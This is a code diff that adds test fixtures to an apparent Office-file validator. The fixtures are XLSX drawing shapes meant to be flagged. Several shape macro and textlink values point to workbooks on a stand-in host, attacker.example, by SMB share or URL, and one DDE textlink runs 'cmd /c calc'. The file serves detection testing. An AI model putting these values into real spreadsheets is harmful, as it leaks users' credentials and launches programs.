@@ -5,6 +5,7 @@ import type { FindingCode } from '../../../shared/validation/inspect.ts';
 import {
   activeX,
   PAGE_BACKGROUND,
+  drawingShape,
   sheetLoading,
   activeXByContentType,
   altChunk,
@@ -1196,6 +1197,7 @@ const officeItems: CorpusItem[] = [
   ...followedTargetOfficeItems(),
   ...fetchedRelationshipOfficeItems(),
   ...sheetLoadingOfficeItems(),
+  ...drawingShapeOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3000,6 +3002,18 @@ export const ACTIVE_GENUINE: readonly {
       ),
     warning: 'EXTERNAL_LINK',
   },
+  {
+    id: 'xlsx-shape-with-macro-in-workbook',
+    declared: 'xlsx',
+    // A shape as Excel writes it, its text linked to a cell and a macro of the workbook's own
+    // named (none runs: a workbook with VBA is refused by its type) (round 10).
+    bytes: () => drawingShape('macro="[0]!显示明细" textlink="$A$1"'),
+  },
+  {
+    id: 'xlsx-shape-as-excel-writes-it',
+    declared: 'xlsx',
+    bytes: () => drawingShape('macro="" textlink=""'),
+  },
 ];
 
 /**
@@ -3472,6 +3486,35 @@ function sheetLoadingOfficeItems(): CorpusItem[] {
         () => sheetLoading(inner, tracking),
         'OOXML_EXTERNAL',
       ),
+    ),
+  ];
+}
+
+/**
+ * A drawing's shape whose `macro` (run on a click) or `textlink` (read as the sheet opens) names
+ * a workbook by its path or a DDE server (round 10): Excel opens that workbook, handing a share's
+ * host the reviewer's credentials, or starts the program. Each was VALID.
+ */
+function drawingShapeOfficeItems(): CorpusItem[] {
+  return [
+    item(
+      'xlsx-shape-macro-in-workbook-on-share',
+      'OOXML external',
+      () => drawingShape(`macro="'\\\\attacker.example\\share\\[宏.xlsm]Sheet1'!Auto" textlink=""`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-shape-macro-in-workbook-on-web',
+      'OOXML external',
+      () => drawingShape(`macro="'https://attacker.example/[宏.xlsm]Sheet1'!Auto"`),
+      'OOXML_EXTERNAL',
+    ),
+    item('xlsx-shape-textlink-dde', 'DDE', () => drawingShape(`macro="" textlink="cmd|' /c calc'!A0"`), 'OOXML_DDE'),
+    item(
+      'xlsx-shape-textlink-on-share',
+      'OOXML external',
+      () => drawingShape(`textlink="'\\\\attacker.example\\share\\[b.xlsx]Sheet1'!$A$1"`),
+      'OOXML_EXTERNAL',
     ),
   ];
 }
